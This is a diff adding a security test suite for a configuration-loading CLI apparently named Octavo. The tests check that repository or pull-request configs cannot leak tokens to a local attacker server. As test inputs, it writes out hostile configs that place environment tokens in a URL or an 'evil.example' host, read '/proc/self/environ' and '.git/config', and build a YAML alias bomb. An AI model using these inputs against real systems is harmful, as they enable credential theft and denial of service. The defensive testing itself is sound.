@@ -1,0 +1,289 @@
+import { execFileSync } from 'node:child_process';
+import { mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import { describe, expect, test } from 'vitest';
+import { runGit } from '../git/repository.ts';
+import { TOKEN } from '../support/octavo-process.ts';
+import { openWorkspace, type Workspace } from '../support/workspace.ts';
+
+const CANARY = 'canary-4b1d-never-to-be-sent';
+
+/** A server of whoever wrote the configuration: it answers everything, and notes all that it is sent. */
+async function openAttacker() {
+  const received: string[] = [];
+  const server = createServer((request, response) => {
+    received.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)}`);
+    response.setHeader('content-type', 'application/json').end('{"id":"org_acme","title":"Evil","items":[]}');
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  return { url, received, [Symbol.asyncDispose]: () => new Promise<void>((done) => server.close(() => done())) };
+}
+
+const NOTHING_SET = { OCTAVO_BASE_URL: '', OCTAVO_TOKEN: '', OCTAVO_ORGANIZATION: '' };
+
+/** Every command that reads a configuration and asks the platform. */
+const ASKING: readonly (readonly string[])[] = [
+  ['plan', 'm'],
+  ['plan', 'm', '--format', 'json'],
+  ['apply', 'm', '--yes'],
+  ['snapshot'],
+  ['import', '--out', 'm', '--dry-run'],
+  ['import', '--out', 'm', '--drift', '--dry-run'],
+  ['doctor'],
+  ['api', 'listTeams'],
+  ['init', '.', '--forge', 'none'],
+];
+
+/** Commands that also open the files and addresses of a configuration. */
+const FOLLOWING: readonly (readonly string[])[] = [
+  ['run', '--once'],
+  ['approve', 'sha256:00'],
+  ['conversations', 'status'],
+  ['clusters', 'list'],
+];
+
+function configuration(baseUrl: string, token: string, more = ''): string {
+  return `platform: { baseUrl: "${baseUrl}", token: "${token}" }\norganizations: [{ id: org_acme, source: { directory: . }${more} }]\n`;
+}
+
+describe('a configuration that is only found', () => {
+  test('is not read where the environment names the platform', async () => {
+    await using attacker = await openAttacker();
+    await using work = await openWorkspace();
+    work.repository.write('m/teams.yaml', 'teams: { writers: { title: Writers } }\n');
+    work.repository.write('config.yaml', configuration(attacker.url, '$' + '{env:OCTAVO_TOKEN}'));
+    for (const command of ASKING) {
+      expect([command, await work.inside(command)]).toEqual([command, expect.objectContaining({ code: 0 })]);
+    }
+    expect(attacker.received).toEqual([]);
+  });
+
+  test.each([...ASKING, ...FOLLOWING])('takes no token from the environment: octavo %s %s', async (...command) => {
+    await using attacker = await openAttacker();
+    await using work = await openWorkspace();
+    work.repository.write('config.yaml', configuration(attacker.url, '$' + '{env:OCTAVO_TOKEN}'));
+    work.repository.write('m/teams.yaml', 'teams: { writers: { title: Writers } }\n');
+    const token = await work.inside(command, { ...NOTHING_SET, OCTAVO_TOKEN: TOKEN });
+    expect(token.code).toBe(command[0] === 'init' ? 0 : 3);
+    const other = await work.inside(command, { ...NOTHING_SET, OCTAVO_TOKEN_1: CANARY });
+    expect(other.code).toBe(command[0] === 'init' ? 0 : 3);
+    expect(attacker.received).toEqual([]);
+  });
+
+  test('names the way out', async () => {
+    await using work = await openWorkspace();
+    work.repository.write('config.yaml', configuration('https://platform.example', '$' + '{env:OCTAVO_TOKEN}'));
+    const { stderr } = await work.inside(['plan', 'm'], { ...NOTHING_SET, OCTAVO_TOKEN: TOKEN });
+    expect(stderr).toBe(
+      'octavo: OCTAVO_BASE_URL, OCTAVO_ORGANIZATION are not set; set them, or give a file with --config FILE (the config.yaml that is here is not read by itself: OCTAVO_TOKEN is set)\n',
+    );
+  });
+
+  const hostile: readonly (readonly [what: string, text: (url: string) => string])[] = [
+    ['another variable as the token', (url) => configuration(url, '$' + '{env:GITHUB_TOKEN}')],
+    ['a variable of Octavo as the token', (url) => configuration(url, '$' + '{env:OCTAVO_FORGE_TOKEN}')],
+    ['a variable as a part of the token', (url) => configuration(url, 'x$' + '{env:OCTAVO_FORGE_TOKEN}')],
+    ['a variable in the path of the address', (url) => configuration(`${url}/\${env:OCTAVO_FORGE_TOKEN}`, 'mine')],
+    ['a variable as the host', () => configuration('http://$' + '{env:OCTAVO_FORGE_TOKEN}.evil.example', 'mine')],
+    [
+      'a variable as the organization',
+      (url) => configuration(url, 'mine').replace('org_acme', '"$' + '{env:OCTAVO_FORGE_TOKEN}"'),
+    ],
+    [
+      'a variable as the token of the organization',
+      (url) => configuration(url, 'mine', ', token: "$' + '{env:OCTAVO_FORGE_TOKEN}"'),
+    ],
+    [
+      'a variable by an alias',
+      (url) => `x: &a "\${env:OCTAVO_FORGE_TOKEN}"\n${configuration(url, 'mine', ', token: *a')}`,
+    ],
+    ['a file beside the folder', (url) => configuration(url, '$' + '{file:../secret}')],
+    ['a file by its absolute path', (url) => configuration(url, '$' + '{file:/proc/self/environ}')],
+    ['a file of the repository', (url) => configuration(url, '$' + '{file:.git/config}')],
+    [
+      'a file as a description',
+      (url) => configuration(url, 'mine', ', clusters: { changeRequest: { description: { file: ../secret } } }'),
+    ],
+    ['an endless alias', (url) => `x: &a [*a]\n${configuration(url, 'mine')}`],
+    [
+      'aliases of aliases',
+      (url) =>
+        `${Array.from(
+          { length: 12 },
+          (_, at) =>
+            `x${at}: &a${at} [${Array(9)
+              .fill(at === 0 ? 'lol' : `*a${at - 1}`)
+              .join()}]`,
+        ).join('\n')}\n${configuration(url, 'mine')}`,
+    ],
+  ];
+
+  test.each(hostile)('cannot have %s sent or shown', async (_what, text) => {
+    await using attacker = await openAttacker();
+    await using work = await openWorkspace();
+    writeFileSync(join(work.folder, 'secret'), CANARY);
+    work.repository.write('config.yaml', text(attacker.url));
+    const env = { ...NOTHING_SET, GITHUB_TOKEN: CANARY, OCTAVO_FORGE_TOKEN: CANARY };
+    for (const command of [['plan', 'm'], ['doctor'], ['api', 'listTeams']]) {
+      const ended = await work.inside(command, env);
+      expect(ended.code).toBe(3);
+      expect(ended.stdout + ended.stderr).not.toContain(CANARY);
+    }
+    expect(attacker.received).toEqual([]);
+  });
+
+  test('is no link, no pipe, no folder, and not endless', async () => {
+    await using work = await openWorkspace();
+    const path = join(work.repository.directory, 'config.yaml');
+    writeFileSync(join(work.folder, 'mine.yaml'), configuration(work.emulator.url, TOKEN));
+    const makers = [
+      () => symlinkSync(join(work.folder, 'mine.yaml'), path),
+      () => execFileSync('sh', ['-c', 'mkfifo "$0"', path]),
+      () => mkdirSync(path),
+      () => writeFileSync(path, `#${'x'.repeat(1_048_576)}\n${configuration(work.emulator.url, TOKEN)}`),
+    ];
+    for (const make of makers) {
+      make();
+      const { code, stderr } = await work.inside(['doctor'], NOTHING_SET);
+      expect([code, stderr]).toEqual([
+        3,
+        expect.stringMatching(/^octavo: config\.yaml is (not a regular file|larger than 1 MiB); pass --config/),
+      ]);
+      rmSync(path, { recursive: true });
+    }
+  });
+
+  test('works with its own token and address, and with both from the environment', async () => {
+    await using work = await openWorkspace();
+    work.repository.write('m/teams.yaml', 'teams: { writers: { title: Writers } }\n');
+    work.repository.write('config.yaml', configuration(work.emulator.url, TOKEN));
+    expect(await work.inside(['plan', 'm'], NOTHING_SET)).toMatchObject({ code: 0 });
+    work.repository.write('config.yaml', configuration('$' + '{env:OCTAVO_URL_1}', '$' + '{env:OCTAVO_TOKEN_1}'));
+    const env = { ...NOTHING_SET, OCTAVO_URL_1: work.emulator.url, OCTAVO_TOKEN_1: TOKEN };
+    expect(await work.inside(['plan', 'm'], env)).toMatchObject({ code: 0 });
+  });
+
+  test.each(FOLLOWING)('is not enough for octavo %s %s', async (...command) => {
+    await using work = await openWorkspace();
+    work.repository.write('config.yaml', configuration(work.emulator.url, TOKEN));
+    const ended = await work.inside(command, NOTHING_SET);
+    expect(ended).toMatchObject({
+      code: 3,
+      stderr: expect.stringContaining('name it with --config config.yaml or OCTAVO_CONFIG'),
+    });
+  });
+});
+
+test('OCTAVO_CONFIG names a configuration, which may then read any variable; --config goes before it', async () => {
+  await using work = await openWorkspace();
+  work.repository.write('conf/octavo.yaml', configuration(work.emulator.url, '$' + '{env:SOME_TOKEN}'));
+  work.repository.write('conf/other.yaml', configuration(work.emulator.url, '$' + '{env:ANOTHER}'));
+  const env = { ...NOTHING_SET, OCTAVO_CONFIG: 'conf/octavo.yaml', SOME_TOKEN: TOKEN };
+  expect(await work.inside(['doctor'], env)).toMatchObject({ code: 0 });
+  const { code, stderr } = await work.inside(['doctor', '--config', 'conf/other.yaml'], env);
+  expect([code, stderr]).toEqual([3, expect.stringContaining('the environment variable ANOTHER is not set')]);
+});
+
+/** A repository whose pull request sends everything to somebody else. */
+async function openPull(attacker: string, before = (_work: Workspace) => {}) {
+  const work = await openWorkspace();
+  work.repository.write('m/teams.yaml', 'teams: { writers: { title: Writers } }\n');
+  work.repository.write('conf/config.yaml', configuration(work.emulator.url, '$' + '{file:token}'));
+  work.repository.write('conf/token', TOKEN);
+  before(work);
+  const base = work.repository.commit('Base');
+  work.repository.git('checkout', '--quiet', '-b', 'hostile');
+  work.repository.write('conf/config.yaml', configuration(attacker, '$' + '{env:THE_TOKEN}'));
+  work.repository.write('config.yaml', configuration(attacker, 'mine'));
+  const head = work.repository.commit('Hostile');
+  const event = join(work.folder, 'event.json');
+  writeFileSync(event, JSON.stringify({ pull_request: { number: 1, head: { sha: head }, base: { sha: base } } }));
+  const env = {
+    ...NOTHING_SET,
+    THE_TOKEN: CANARY,
+    GITHUB_ACTIONS: 'true',
+    GITHUB_API_URL: 'http://127.0.0.1:9',
+    GITHUB_REPOSITORY: 'acme/docs',
+    GITHUB_EVENT_PATH: event,
+  };
+  return { work, env, base, head };
+}
+
+describe('in a job of a pull request', () => {
+  test('a named configuration, and the files it names, are those of the commit that the pull request starts from', async () => {
+    await using attacker = await openAttacker();
+    const { work, env } = await openPull(attacker.url);
+    await using _ = work;
+    for (const command of [['plan', 'm'], ['plan', 'm', '--comment'], ['doctor'], ['snapshot'], ['api', 'listTeams']]) {
+      expect(await work.inside([...command, '--config', 'conf/config.yaml'], env)).toMatchObject({ code: 0 });
+      expect(await work.inside(command, { ...env, OCTAVO_CONFIG: 'conf/config.yaml' })).toMatchObject({ code: 0 });
+    }
+    expect(attacker.received).toEqual([]);
+  });
+
+  test('links of the pull request, and links to it, lead nowhere else', async () => {
+    await using attacker = await openAttacker();
+    const { work, env } = await openPull(attacker.url);
+    await using _ = work;
+    const { directory } = work.repository;
+    writeFileSync(join(work.folder, 'evil.yaml'), configuration(attacker.url, '$' + '{env:THE_TOKEN}'));
+    mkdirSync(join(work.folder, 'evil'));
+    writeFileSync(join(work.folder, 'evil', 'config.yaml'), configuration(attacker.url, '$' + '{env:THE_TOKEN}'));
+    const plan = (config: string) => work.inside(['plan', 'm', '--config', config], env);
+    // A link to the configuration of the pull request, from outside.
+    writeFileSync(join(work.folder, 'token'), TOKEN);
+    symlinkSync(join(directory, 'conf', 'config.yaml'), join(work.folder, 'link.yaml'));
+    expect(await plan('../link.yaml')).toMatchObject({ code: 0 });
+    rmSync(join(directory, 'conf', 'config.yaml'));
+    symlinkSync(join(work.folder, 'evil.yaml'), join(directory, 'conf', 'config.yaml'));
+    expect(await plan('conf/config.yaml')).toMatchObject({ code: 0 });
+    rmSync(join(directory, 'conf'), { recursive: true });
+    symlinkSync(join(work.folder, 'evil'), join(directory, 'conf'));
+    expect(await plan('conf/config.yaml')).toMatchObject({ code: 0 });
+    expect(await plan(join(directory, 'conf', 'config.yaml'))).toMatchObject({ code: 0 });
+    expect(attacker.received).toEqual([]);
+  });
+
+  test('a configuration that only the pull request has, or that nobody named, is not read', async () => {
+    await using attacker = await openAttacker();
+    const { work, env } = await openPull(attacker.url);
+    await using _ = work;
+    const named = await work.inside(['plan', 'm', '--config', 'config.yaml'], env);
+    expect(named).toMatchObject({ code: 3, stderr: expect.stringContaining('merge it first, or keep it outside') });
+    const found = await work.inside(['plan', 'm'], env);
+    expect(found).toMatchObject({ code: 3, stderr: expect.stringContaining('the pull request may have changed it') });
+    expect(attacker.received).toEqual([]);
+  });
+
+  test('policies of a pull request do not hold for a plan over a snapshot either', async () => {
+    await using attacker = await openAttacker();
+    const { work, env } = await openPull(attacker.url);
+    await using _ = work;
+    const platform = { OCTAVO_BASE_URL: work.emulator.url, OCTAVO_TOKEN: TOKEN, OCTAVO_ORGANIZATION: 'org_acme' };
+    expect(await work.inside(['snapshot', '--out', '../snapshot.json'], platform)).toMatchObject({ code: 0 });
+    work.repository.write('config.yaml', configuration(attacker.url, 'mine').replace('organizations', 'organisations'));
+    expect(await work.inside(['plan', 'm', '--snapshot', '../snapshot.json'], env)).toMatchObject({ code: 0 });
+  });
+
+  test('without the history of the base it says what to do', async () => {
+    await using attacker = await openAttacker();
+    const { work, env } = await openPull(attacker.url);
+    await using _ = work;
+    const shallow = join(work.folder, 'shallow');
+    runGit(work.folder, ['clone', '--quiet', '--depth=1', `file://${work.repository.directory}`, shallow]);
+    const { code, stderr } = await work.inside(['plan', 'm', '--config', 'conf/config.yaml'], env, '../shallow');
+    expect([code, stderr]).toEqual([3, expect.stringContaining('clone the whole history (fetch-depth: 0')]);
+    expect(attacker.received).toEqual([]);
+  });
+
+  test('a configuration outside of the repository is the operator’s', async () => {
+    const { work, env } = await openPull('http://127.0.0.1:9');
+    await using _ = work;
+    writeFileSync(join(work.folder, 'operator.yaml'), configuration(work.emulator.url, '$' + '{env:MY_TOKEN}'));
+    const ended = await work.inside(['plan', 'm', '--config', '../operator.yaml'], { ...env, MY_TOKEN: TOKEN });
+    expect(ended).toMatchObject({ code: 0 });
+  });
+});
